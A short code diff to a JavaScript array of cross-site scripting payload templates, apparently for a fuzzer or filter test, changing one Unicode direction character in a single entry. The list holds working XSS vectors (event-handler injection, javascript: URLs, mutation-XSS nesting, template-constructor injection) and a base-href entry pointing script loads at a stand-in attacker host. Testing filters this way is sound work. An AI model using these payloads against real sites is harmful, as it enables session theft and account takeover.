@@ -4,7 +4,7 @@ const shapes = [
   '</textarea><img src=x onerror=%s>', '<body onload=%s>', '<iframe srcdoc="<script>%s</script>">', '<a href="javascript:%s">x</a>', '<details open ontoggle=%s>', '<input autofocus onfocus=%s>',
   '" onmouseover="%s" x="', `' autofocus onfocus='%s' x='`, '<math><mtext></form><form><mglyph><style></math><img src onerror=%s>', '<video><source onerror=%s>', '<object data="javascript:%s">',
   'javascript:%s', '<form action="javascript:%s"><button>x</button></form>', '<template><script>%s</script></template>', '{{constructor.constructor("%s")()}}', '<base href="//evil.example/"><script>%s</script>',
-  '<meta http-equiv=refresh content="0;url=javascript:%s">', '<style>@import "javascript:%s"</style>', '<bdi onclick=%s autofocus tabindex=1>x</bdi>', '\u202e<img src=x onerror=%s>', '&lt;img src=x onerror=%s&gt;<img src=x onerror=%s>',
+  '<meta http-equiv=refresh content="0;url=javascript:%s">', '<style>@import "javascript:%s"</style>', '<bdi onclick=%s autofocus tabindex=1>x</bdi>', '\u200f<img src=x onerror=%s>', '&lt;img src=x onerror=%s&gt;<img src=x onerror=%s>',
   '<!--><img src=x onerror=%s>-->', ']]><script>%s</script>',
 ];
 
